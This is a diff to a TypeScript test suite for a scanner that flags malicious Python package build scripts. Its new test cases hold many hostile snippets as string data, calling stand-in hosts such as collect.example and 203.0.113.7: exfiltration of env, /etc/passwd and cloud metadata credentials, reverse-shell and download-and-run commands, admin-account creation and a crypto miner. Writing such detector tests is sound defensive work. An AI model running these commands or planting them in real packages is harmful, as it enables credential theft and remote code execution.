@@ -2,7 +2,7 @@
 // shapes in THREATS.md; hosts and addresses are documentation stand-ins that are never contacted.
 
 import type { Finding, Severity } from '../src/types.js';
-import { RULES, analyzeSdist, analyzeSource } from '../src/analysis/index.js';
+import { RULES, type SourceEncoding, analyzeSdist, analyzeSource } from '../src/analysis/index.js';
 
 const RANK: Record<Severity, number> = { info: 0, low: 1, medium: 2, high: 3, critical: 4 };
 
@@ -15,10 +15,12 @@ interface Case {
   min?: Severity;
   /** Pass cases: the rule may report at most this severity (nothing at all when absent). */
   max?: Severity;
+  /** The codec the archive reader found in a file's coding cookie. */
+  encodings?: Record<string, SourceEncoding>;
 }
 
 function analyze(c: Case): Finding[] {
-  if (c.files) return analyzeSdist(new Map(Object.entries(c.files))).findings;
+  if (c.files) return analyzeSdist(new Map(Object.entries(c.files)), { encodings: c.encodings && new Map(Object.entries(c.encodings)) }).findings;
   return analyzeSource(c.src!, 'setup.py').findings;
 }
 
@@ -60,6 +62,26 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
         min: 'critical',
       },
       { name: 'reg add to a Run key', src: py(['import os', 'os.system(r\'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe\')']), min: 'high' },
+      {
+        name: 'a script encoded in base64 and piped to bash',
+        src: py(['import os, base64', "body = base64.b64encode(b'id; uname -a').decode()", "os.system('echo %s | base64 -d | bash' % body)"]),
+        min: 'critical',
+      },
+      {
+        name: 'a PowerShell TCP client loop',
+        src: py(['import os', 'os.system(\'powershell -nop -c "$c = New-Object System.Net.Sockets.TCPClient(\\\'203.0.113.7\\\',4444);$s = $c.GetStream()"\')']),
+        min: 'critical',
+      },
+      {
+        name: 'Invoke-WebRequest to a file then Invoke-Expression on it',
+        src: py(['import subprocess', 'subprocess.Popen(\'powershell Invoke-WebRequest -Uri "https://cdn.example/u.exe" -OutFile "~/u.exe"; Invoke-Expression "~/u.exe"\')']),
+        min: 'critical',
+      },
+      { name: 'the environment dumped into a shipped file', src: py(['import os', "os.system('env > LICENSE')"]), min: 'high' },
+      { name: 'a listing of system folders dumped into a file', src: py(['import os', "os.system('ls -la /etc >> NOTICE')"]), min: 'high' },
+      { name: 'a DNS query tool', src: py(['import subprocess', "subprocess.getoutput('dig @192.0.2.53 setup.collector.example')"]), min: 'high' },
+      { name: 'a file made executable and started in /tmp', src: py(['import os', "os.system('cd /tmp && chmod +x agent && ./agent')"]), min: 'critical' },
+      { name: 'git clone and a script in one shell command', src: py(['import os', "os.system('git clone https://git.example/u/t.git /tmp/t && python /tmp/t/go.py')"]), min: 'critical' },
     ],
     pass: [
       { name: 'make in a subdirectory', src: py(['import os', "os.system('make -C lib')"]) },
@@ -68,6 +90,9 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
         src: py(['import subprocess, sys', 'try:', "    subprocess.check_call(['cargo', '--version'])", 'except OSError:', "    sys.exit('Install Rust: curl --proto =https -sSf https://sh.rustup.rs | sh')"]),
       },
       { name: 'reg query to find a compiler', src: py(['import subprocess', 'subprocess.check_output(r\'reg query HKLM\\SOFTWARE\\Microsoft\\VisualStudio\\SxS\\VS7\', shell=True)']) },
+      { name: 'a configure script made executable and run', src: py(['import os', "os.system('chmod +x configure && ./configure')"]) },
+      { name: 'the environment passed to make', src: py(['import os', "os.system('env CC=gcc make -j4 > build.log')"]) },
+      { name: 'a source listing written to a file', src: py(['import os', "os.system('ls src > MANIFEST.txt')"]) },
     ],
   },
   'hidden-exec': {
@@ -182,6 +207,52 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
         src: py(['import os, glob, requests', 'def grab():', "    return [open(p).read() for p in glob.glob(os.path.expanduser('~/.ssh/*'))]", 'def send(d):', "    requests.post('https://collect.example/k', json=d)", 'send(grab())']),
         min: 'critical',
       },
+      {
+        name: 'command output posted after branches lose the data flow',
+        src: py([
+          'import os, platform',
+          'from urllib import request, parse',
+          "if platform.system() == 'Linux':",
+          "    try:",
+          "        data = {'w': os.popen('whoami').read(), 'h': os.popen('hostname').read()}",
+          '    except Exception:',
+          "        data = {'error': 'none'}",
+          'else:',
+          "    data = {'error': 'os'}",
+          "request.urlopen(request.Request('https://collect.example/r', data=parse.urlencode(data).encode()))",
+        ]),
+        min: 'critical',
+      },
+      {
+        name: 'the account list sent over a plain socket',
+        src: py(['import socket', "s = socket.create_connection(('collect.example', 9000))", "s.sendall(open('/etc/passwd').read().encode())"]),
+        min: 'critical',
+      },
+      {
+        name: 'file contents leaked in DNS names',
+        src: py(['import socket, binascii', "chunk = binascii.hexlify(open('/etc/hostname', 'rb').read()[:30]).decode()", "socket.gethostbyname(chunk + '.q.example.net')"]),
+        min: 'high',
+      },
+      { name: 'a variable of the environment leaked in a DNS name', src: py(['import os, socket', "socket.getaddrinfo(os.environ['CI_JOB_ID'] + '.ci.example.net', 443)"]), min: 'high' },
+      { name: 'curl uploading a local file', src: py(['import os', "os.system('curl -F f=@/etc/hostname https://collect.example/u')"]), min: 'critical' },
+      { name: 'the environment in a curl URL', src: py(['import os', 'os.system(\'curl "https://collect.example/e/$(env | base64 -w 0)"\')']), min: 'critical' },
+      {
+        name: 'the output of env posted',
+        src: py(['import os, urllib.parse, urllib.request', "out = os.popen('/usr/bin/env').read()", "urllib.request.urlopen('https://collect.example/p', data=urllib.parse.urlencode({'e': out}).encode())"]),
+        min: 'critical',
+      },
+      {
+        name: 'host details sent over a TLS socket',
+        src: py([
+          'import socket, ssl, getpass',
+          "msg = 'GET /b?u=' + getpass.getuser() + ' HTTP/1.1\\r\\nHost: collect.example\\r\\n\\r\\n'",
+          'ctx = ssl.create_default_context()',
+          "t = ctx.wrap_socket(socket.socket(), server_hostname='collect.example')",
+          "t.connect(('collect.example', 443))",
+          't.send(msg.encode())',
+        ]),
+        min: 'critical',
+      },
     ],
     pass: [
       {
@@ -194,6 +265,13 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
         src: py(['import os, requests', "requests.get('https://api.github.com/repos/org/lib/releases', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})"]),
         max: 'info',
       },
+      {
+        name: 'the host name in a build log and a plain download',
+        src: py(['import os, urllib.request', "print('building on', os.popen('hostname').read())", "urllib.request.urlretrieve('https://github.com/org/dep/archive/v1.tar.gz', 'dep.tar.gz')"]),
+        max: 'medium',
+      },
+      { name: 'a database host named by the environment', src: py(['import os, socket', "socket.gethostbyname(os.environ.get('DB_HOST', 'localhost'))"]), max: 'medium' },
+      { name: 'curl downloading to a file', src: py(['import os', "os.system('curl -fsSL -o deps.tar.gz https://github.com/org/deps/archive/v1.tar.gz')"]) },
     ],
   },
   'callback-host': {
@@ -207,15 +285,19 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
       { name: 'a dynamic DNS name', src: py(['import os', "os.system('wget http://upd.duckdns.org/x')"]), min: 'high' },
       { name: 'a URL on a raw IP address', src: py(['import urllib.request', "urllib.request.urlretrieve('http://203.0.113.7/a.exe', 'a.exe')"]), min: 'high' },
       { name: 'a socket to a raw IP address', src: py(['import socket', 's = socket.socket()', "s.connect(('198.51.100.23', 9001))"]), min: 'high' },
+      { name: 'an IP-logging service', src: py(['import urllib.request', "urllib.request.urlopen('https://iplogger.org/1a2b3c')"]), min: 'high' },
+      { name: 'a host name hidden in base64', src: py(['import socket, base64', "socket.gethostbyname(base64.b64decode('Y29sbGVjdC5leGFtcGxl').decode())"]), min: 'high' },
     ],
     pass: [
       { name: 'project URLs in metadata', src: py(['from setuptools import setup', "setup(name='x', url='https://github.com/org/x', description='Expose a local server through ngrok.io tunnels')"]) },
       { name: 'a loopback address', src: py(['import urllib.request', "urllib.request.urlopen('http://127.0.0.1:8000/health')"]), max: 'medium' },
       { name: 'a dotted version number', src: py(["VERSION = '10.2.3.4'", 'from setuptools import setup', 'setup(version=VERSION)']) },
+      { name: 'a host name written out', src: py(['import socket', "socket.gethostbyname('pypi.org')"]) },
     ],
   },
   'secret-access': {
     flag: [
+      { name: 'a configuration-management key', src: py(['import requests', "requests.get('http://10.0.0.5/chef/validation.pem').text"]), min: 'high' },
       { name: 'an SSH private key', src: py(['import os', "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()"]), min: 'high' },
       { name: 'Chrome passwords', src: py(['import os', "db = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')", 'data = open(db, "rb").read()']), min: 'high' },
       { name: 'Discord token storage', src: py(['import os', "p = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'", 'files = os.listdir(p)']), min: 'high' },
@@ -403,8 +485,18 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
       { name: 'pip.main from a VCS URL', src: py(['import pip', "pip.main(['install', 'git+https://203.0.113.7/helper.git'])"]), min: 'high' },
       { name: 'pip with an extra index', src: py(['import subprocess, sys', "subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--extra-index-url', 'https://pkgs.example/simple', 'helper'])"]), min: 'high' },
       { name: 'pip install in a shell', src: py(['import os', "os.system('pip install -q psutil')"]), min: 'medium' },
+      {
+        name: 'an undeclared package installed and imported',
+        src: py(['import subprocess, sys', "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'helper-tools-extra'])", 'import helper_tools_extra', 'helper_tools_extra.run()']),
+        min: 'high',
+      },
     ],
     pass: [
+      {
+        name: 'a declared dependency installed before it is imported',
+        src: py(['import subprocess, sys', 'try:', '    import fastmath', 'except ImportError:', "    subprocess.call([sys.executable, '-m', 'pip', 'install', 'fastmath>=2'])", '    import fastmath', 'from setuptools import setup', "setup(name='x', install_requires=['fastmath>=2'])"]),
+        max: 'medium',
+      },
       { name: 'setup_requires by name', src: py(['from setuptools import setup', "setup(setup_requires=['cython'])"]) },
       { name: 'an old script installing numpy', src: py(['import subprocess, sys', "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'numpy'])"]), max: 'medium' },
     ],
@@ -417,6 +509,21 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
         src: py(['import requests, subprocess', "path = '/tmp/.svc'", "open(path, 'wb').write(requests.get('https://cdn.example/svc').content)", "subprocess.Popen(['chmod', '+x', path])", 'subprocess.Popen([path])']),
         min: 'critical',
       },
+      {
+        name: 'a download written to a temporary file and run by its name',
+        src: py(['import tempfile, subprocess, urllib.request', "with urllib.request.urlopen('https://cdn.example/t') as r:", '    with tempfile.NamedTemporaryFile(delete=False) as f:', '        f.write(r.read())', '        name = f.name', 'subprocess.call([name])']),
+        min: 'critical',
+      },
+      {
+        name: 'code taken out of a downloaded image',
+        src: py(['import os, requests', 'from stegano_kit import reveal', "p = os.path.join(os.getenv('TEMP'), 'logo.png')", "open(p, 'wb').write(requests.get('https://img.example/logo.png').content)", 'exec(reveal(p))']),
+        min: 'critical',
+      },
+      {
+        name: 'a repository cloned and a script from it run',
+        src: py(['import os, subprocess, git', "git.Repo.clone_from('https://git.example/u/tools.git', 'tools')", "os.chdir('tools')", "subprocess.run(['python', 'run.py'])"]),
+        min: 'critical',
+      },
     ],
     pass: [
       { name: 'downloading headers', src: py(['import urllib.request', "urllib.request.urlretrieve('https://example.org/include.tar.gz', 'include.tar.gz')"]) },
@@ -425,6 +532,155 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
         src: py(['import subprocess, sys, urllib.request', "urllib.request.urlretrieve('https://bootstrap.pypa.io/ez_setup.py', 'ez_setup.py')", "subprocess.call([sys.executable, 'ez_setup.py'])"]),
         max: 'medium',
       },
+      {
+        name: 'a probe program compiled from a temporary file',
+        src: py(['import tempfile, subprocess', "with tempfile.NamedTemporaryFile('w', suffix='.c', delete=False) as f:", "    f.write('int main(void) { return 0; }')", "subprocess.call(['cc', f.name, '-o', f.name + '.out'])"]),
+      },
+      {
+        name: 'a dependency cloned and built with cmake',
+        src: py(['import subprocess', "subprocess.check_call(['git', 'clone', '--depth', '1', 'https://github.com/org/dep.git', 'third_party/dep'])", "subprocess.check_call(['cmake', '-S', 'third_party/dep', '-B', 'build/dep'])"]),
+      },
+    ],
+  },
+  'cloud-credentials': {
+    flag: [
+      {
+        name: 'the instance metadata service asked for credentials',
+        src: py(['import requests', "r = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/')", "requests.post('https://collect.example/c', data=r.text)"]),
+        min: 'critical',
+      },
+      {
+        name: 'the metadata service fetched by python -c in a shell command',
+        src: py(['import os', 'os.system(\'python3 -c "import urllib.request as u; print(u.urlopen(\\\'http://169.254.169.254/latest/user-data\\\').read())" >> NOTICE\')']),
+        min: 'critical',
+      },
+      {
+        name: 'a Kubernetes service-account token read',
+        src: py(["tok = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()"]),
+        min: 'critical',
+      },
+      {
+        name: 'a cluster service found through its environment variables',
+        src: py(['import os, urllib.request', "urllib.request.urlopen('http://' + os.environ.get('BILLING_SERVICE_HOST') + ':8080/')"]),
+        min: 'critical',
+      },
+    ],
+    pass: [
+      { name: 'the metadata address in the long description', src: py(['from setuptools import setup', "setup(name='x', description='Reads instance data from 169.254.169.254 at run time')"]) },
+      { name: 'a cluster detected from its environment', src: py(['import os', "IN_CLUSTER = os.environ.get('KUBERNETES_SERVICE_HOST') is not None"]) },
+    ],
+  },
+  tampering: {
+    flag: [
+      { name: 'an administrator account added', src: py(['import subprocess', "subprocess.check_output('net user helper P4ss! /add && net localgroup administrators helper /add', shell=True)"]), min: 'critical' },
+      { name: 'the machine shut down', src: py(['import os, platform', "os.system('shutdown /s /t 0' if platform.system() == 'Windows' else 'poweroff')"]), min: 'critical' },
+      {
+        name: 'code appended to a module of the standard library',
+        src: py(['import inspect, socket', "f = open(inspect.getsourcefile(socket), 'a')", "f.write(open('pkg/extra.py').read())", 'f.close()']),
+        min: 'critical',
+      },
+      {
+        name: 'code appended beside the os module',
+        src: py(['import os', "p = os.path.join(os.path.dirname(os.__file__), 'socket.py')", "with open(p, 'a') as f:", "    f.write('print(1)')"]),
+        min: 'critical',
+      },
+      {
+        name: 'browser shortcuts rewritten to load an extension',
+        src: py([
+          'from win32com.client import Dispatch',
+          "sc = Dispatch('WScript.Shell').CreateShortCut(r'C:\\Users\\Public\\Desktop\\Browser.lnk')",
+          "sc.Arguments = '--load-extension=C:\\ProgramData\\ext'",
+          'sc.save()',
+        ]),
+        min: 'critical',
+      },
+    ],
+    pass: [
+      { name: 'a module file read for its version', src: py(['import inspect, mypkg', "text = open(inspect.getsourcefile(mypkg)).read()"]) },
+      {
+        name: 'a version file written into its own package',
+        src: py(['import os, mypkg', "p = os.path.join(os.path.dirname(mypkg.__file__), '_version.py')", "with open(p, 'w') as f:", "    f.write('__version__ = \"1.0\"')"]),
+      },
+      { name: 'a shutdown handler named in a string', src: py(['from setuptools import setup', "setup(name='x', entry_points={'console_scripts': ['shutdown-helper = x.cli:main']})"]) },
+    ],
+  },
+  'detached-stage': {
+    flag: [
+      {
+        name: 'Python code written to a temporary file and started with pythonw',
+        src: py([
+          'import os, sys, tempfile',
+          'tmp = tempfile.NamedTemporaryFile(delete=False)',
+          "tmp.write(b'import time; time.sleep(1)')",
+          'tmp.close()',
+          "os.system(f\"start {sys.executable.replace('.exe', 'w.exe')} {tmp.name}\")",
+        ]),
+        min: 'high',
+      },
+      {
+        name: 'a temporary program started with detaching creation flags',
+        src: py(['import subprocess, tempfile', "fd, path = tempfile.mkstemp(suffix='.exe')", 'subprocess.Popen([path], creationflags=subprocess.DETACHED_PROCESS | subprocess.CREATE_NO_WINDOW)']),
+        min: 'high',
+      },
+    ],
+    pass: [
+      {
+        name: 'a compiler probe through a temporary file',
+        src: py(['import subprocess, tempfile', "with tempfile.NamedTemporaryFile('w', suffix='.c') as f:", "    f.write('int main(void){return 0;}')", "    subprocess.check_call(['cc', '-c', f.name])"]),
+      },
+    ],
+  },
+  cryptominer: {
+    flag: [
+      { name: 'a miner started with a pool address', src: py(['import os', "os.system('/tmp/xmrig -o stratum+tcp://pool.example:3333 -u WALLET')"]), min: 'critical' },
+      {
+        name: "a miner's configuration written out",
+        src: py(['import json', "open('/tmp/config.json', 'w').write(json.dumps({'autosave': True}) + '{\"nicehash\": true, \"pools\": []}')"]),
+        min: 'critical',
+      },
+    ],
+    pass: [{ name: 'mining named in the description', src: py(['from setuptools import setup', "setup(name='x', description='Tools for xmrig log analysis')"]) }],
+  },
+  'packed-runtime': {
+    flag: [
+      { name: 'a PyArmor-encrypted build script', src: py(['from pytransform import pyarmor_runtime', 'pyarmor_runtime()', "__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52')"]), min: 'high' },
+    ],
+    pass: [{ name: 'a readable build script', src: py(['from setuptools import setup', "setup(name='armored', description='Wraps pyarmor for projects')"]) }],
+  },
+  'unusual-encoding': {
+    flag: [
+      {
+        name: 'setup.py that Python decodes as utf-7',
+        files: { 'setup.py': '# coding: utf-7\nfrom setuptools import setup\nsetup()\n' },
+        encodings: { 'setup.py': { codec: 'utf_7', line: 1, unusual: true } },
+        min: 'high',
+      },
+    ],
+    pass: [
+      {
+        name: 'a latin-1 cookie in an old package',
+        files: { 'setup.py': '# -*- coding: latin-1 -*-\nfrom setuptools import setup\nsetup(author="Zoë")\n' },
+        encodings: { 'setup.py': { codec: 'iso8859_1', line: 1, unusual: false } },
+      },
+    ],
+  },
+  'unresolved-load': {
+    flag: [
+      {
+        name: 'a module name decoded before import',
+        src: py(['import base64, importlib', "m = importlib.import_module(base64.b64decode(open('k').read()).decode())"]),
+        min: 'medium',
+      },
+      {
+        name: 'python -m on a name hidden in base64',
+        src: py(['import base64, subprocess, sys', "subprocess.Popen([sys.executable, '-m', base64.b64decode(sys.argv[1]).decode()])"]),
+        min: 'medium',
+      },
+      { name: 'exec of a file named at run time', src: py(['import os', "exec(open(os.environ['HELPER']).read())"]), min: 'medium' },
+    ],
+    pass: [
+      { name: 'importing optional backends by constant names', src: py(['import importlib', "for m in ['json', 'tomllib']:", '    importlib.import_module(m)']) },
+      { name: 'exec of the version file', files: { 'setup.py': "exec(open('pkg/version.py').read())\n", 'pkg/version.py': "__version__ = '1.0'\n" } },
     ],
   },
   'build-requires': {
